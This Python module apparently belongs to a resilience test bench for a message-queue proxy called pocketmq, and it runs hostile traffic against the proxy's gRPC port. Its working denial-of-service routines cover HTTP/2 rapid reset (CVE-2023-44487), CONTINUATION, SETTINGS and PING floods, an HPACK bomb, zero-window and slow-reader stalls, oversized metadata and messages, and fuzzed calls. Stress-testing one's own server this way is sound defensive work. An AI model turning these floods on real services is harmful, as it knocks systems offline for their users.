"""Attacks on the gRPC port: HTTP/2 frames that pin memory or cost CPU time, and calls with damaged messages."""

import itertools
import random
import socket
from collections.abc import Callable

from google.protobuf.duration_pb2 import Duration

from bench.hostile import http2
from bench.hostile.fuzzed import fuzzed_call
from bench.hostile.peer import NEIGHBOUR_TOPIC, Peer
from pocketmq.proxy.proto import messaging_pb2 as pb

SILENT_CONNECTIONS = 5_000
CONNECTIONS = 50
STREAMS = 1_000
CALLS_A_CONNECTION = 5_000


def grpc_silent(peer: Peer) -> None:
    """Five thousand connections to the gRPC port that send one byte and wait."""
    connections = list(peer.connections(peer.grpc, SILENT_CONNECTIONS))
    for connection in connections:
        peer.send(connection, http2.PREFACE[:1])
    peer.wait_to_the_end(*connections)


def grpc_half_open(peer: Peer) -> None:
    """A thousand calls on each of fifty connections whose message never ends."""
    started = (http2.call(stream, "SendMessage", b"x", is_finished=False) for stream in _streams(STREAMS))
    _on_each(peer, http2.begin() + b"".join(started))


def grpc_stream_flood(peer: Peer) -> None:
    """Telemetry streams without end, each of another client."""
    numbers = itertools.count()
    _flood(peer, lambda stream: http2.call(stream, "Telemetry", None, x_mq_client_id=f"hostile-{next(numbers)}"))


def grpc_new_clients(peer: Peer) -> None:
    """Calls without end, each of another client."""
    numbers = itertools.count()
    message = pb.QueryRouteRequest(topic=pb.Resource(name=NEIGHBOUR_TOPIC)).SerializeToString()
    _flood(peer, lambda stream: http2.call(stream, "QueryRoute", message, x_mq_client_id=f"hostile-{next(numbers)}"))


def grpc_rapid_reset(peer: Peer) -> None:
    """Calls that are cancelled at once (CVE-2023-44487)."""
    message = _send_request()
    _flood(peer, lambda stream: http2.call(stream, "SendMessage", message) + http2.reset(stream))


def grpc_continuation_flood(peer: Peer) -> None:
    """Headers that go on in CONTINUATION frames and never end."""
    more = http2.frame(http2.CONTINUATION, 0, 1, http2.field("x", "y" * 1000))
    _repeat(peer, http2.begin() + http2.frame(http2.HEADERS, 0, 1, http2.head("SendMessage", {})), more)


def grpc_settings_flood(peer: Peer) -> None:
    """SETTINGS frames, whose acknowledgements are not read."""
    _repeat(peer, http2.begin(), http2.settings(window=1_000), reads=False)


def grpc_ping_flood(peer: Peer) -> None:
    """PING frames, whose answers are not read."""
    _repeat(peer, http2.begin(), http2.frame(http2.PING, payload=b"hostile!"), reads=False)


def grpc_metadata_huge(peer: Peer) -> None:
    """Calls with metadata of 300 KB, in one field and in many."""
    blocks = [http2.field("x", "y" * 300_000), b"".join(http2.field(f"x{number}", "y" * 20) for number in range(10_000))]

    def call(stream: int) -> bytes:
        block = http2.head("SendMessage", {}) + blocks[stream // 2 % 2]
        pieces = [block[start : start + 16_000] for start in range(0, len(block), 16_000)]
        first = http2.frame(http2.HEADERS, 0, stream, pieces[0])
        rest = [http2.frame(http2.CONTINUATION, 0, stream, piece) for piece in pieces[1:-1]]
        return b"".join((first, *rest, http2.frame(http2.CONTINUATION, http2.END_HEADERS, stream, pieces[-1])))

    _flood(peer, call)


def grpc_hpack_bomb(peer: Peer) -> None:
    """Headers that name a kept field of 4 KB sixteen thousand times, by one byte each."""
    kept = http2.field("x", "y" * 4_000, is_kept=True)
    bomb = b"\xbe" * 15_000  # the first field of the server's table
    _flood(
        peer,
        lambda stream: http2.frame(
            http2.HEADERS, http2.END_HEADERS, stream, http2.head("SendMessage", {}) + (kept if stream == 1 else b"") + bomb
        ),
    )


def grpc_window_zero(peer: Peer) -> None:
    """Pulls of 32 messages and routes on fifty connections that let the server write nothing."""
    _on_each(peer, http2.begin(window=0) + _large_answers())


def grpc_slow_reader(peer: Peer) -> None:
    """The same, but each answer may have one more byte from time to time."""
    connections = _on_each(peer, http2.begin(window=0) + _large_answers(), waits=False)
    grants = b"".join(http2.window_update(stream, 1) for stream in _streams(STREAMS))
    for connection in itertools.cycle(connections):
        if not peer.is_on or not connections:
            return
        peer.send(connection, grants)


def grpc_unfinished_messages(peer: Peer) -> None:
    """Messages of 100 MB, of which 64 KB arrive, on many streams."""
    piece = b"\0" + (100 << 20).to_bytes(4, "big") + b"x" * 16_000

    def call(stream: int) -> bytes:
        data = [http2.frame(http2.DATA, 0, stream, one) for one in (piece, *[b"x" * 16_000] * 3)]
        return http2.call(stream, "SendMessage", None) + b"".join(data)

    _flood(peer, call)


def grpc_fuzzed_calls(peer: Peer) -> None:
    """Calls of all rpcs with random bytes, and with valid messages of which some bytes were changed."""
    rng = random.Random("fuzz")
    _flood(peer, lambda stream: http2.call(stream, *fuzzed_call(rng), x_mq_client_id=f"fuzz-{rng.randrange(20)}"))


def _send_request() -> bytes:
    system = pb.SystemProperties(message_id="0" * 34)
    message = pb.Message(topic=pb.Resource(name="Hostile"), system_properties=system, body=b"x")
    return pb.SendMessageRequest(messages=[message]).SerializeToString()


def _large_answers() -> bytes:
    """Return calls with large answers, on all streams of a connection."""
    topic = pb.Resource(name=NEIGHBOUR_TOPIC)
    endpoints = pb.Endpoints(scheme=pb.IPv4, addresses=[pb.Address(host="127.0.0.1", port=1)])
    route = pb.QueryRouteRequest(topic=topic, endpoints=endpoints).SerializeToString()
    queue = pb.MessageQueue(topic=topic, id=0, broker=pb.Broker(name="broker-a"))
    pull = pb.PullMessageRequest(
        group=pb.Resource(name="Hostile"), message_queue=queue, batch_size=32, long_polling_timeout=Duration(seconds=1)
    ).SerializeToString()
    calls = (("PullMessage", pull), ("QueryRoute", route))
    return b"".join(http2.call(stream, *calls[stream // 2 % 2]) for stream in _streams(STREAMS))


def _streams(count: int) -> range:
    """Return the numbers of the first streams of a client."""
    return range(1, 2 * count, 2)


def _on_each(peer: Peer, data: bytes, waits: bool = True) -> list[socket.socket]:
    """Send `data` on each of CONNECTIONS; `waits` keeps them open until the end."""
    connections = list(peer.connections(peer.grpc, CONNECTIONS))
    for connection in connections:
        peer.send(connection, data)
    if waits:
        peer.wait_to_the_end(*connections)
    return connections


def _repeat(peer: Peer, first: bytes, data: bytes, reads: bool = True) -> None:
    """Send `first`, then `data` again and again; on a new connection if the server closes it."""
    many = data * max(1, 8_000 // len(data))
    while peer.is_on:
        connection = peer.connect(peer.grpc)
        if connection is None:
            peer.wait(0.2)
        elif peer.send(connection, first, reads):
            while peer.send(connection, many, reads):
                pass
        if connection is not None:
            peer.close(connection)


def _flood(peer: Peer, call: Callable[[int], bytes]) -> None:
    """Send calls on new streams; on a new connection after some thousands, or if the server closes it."""
    while peer.is_on:
        connection = peer.connect(peer.grpc)
        if connection is None:
            peer.wait(0.2)
            continue
        is_open = peer.send(connection, http2.begin())
        for stream in _streams(CALLS_A_CONNECTION):
            if not is_open:
                break
            is_open = peer.send(connection, call(stream))
            peer.calls += is_open
        peer.close(connection)
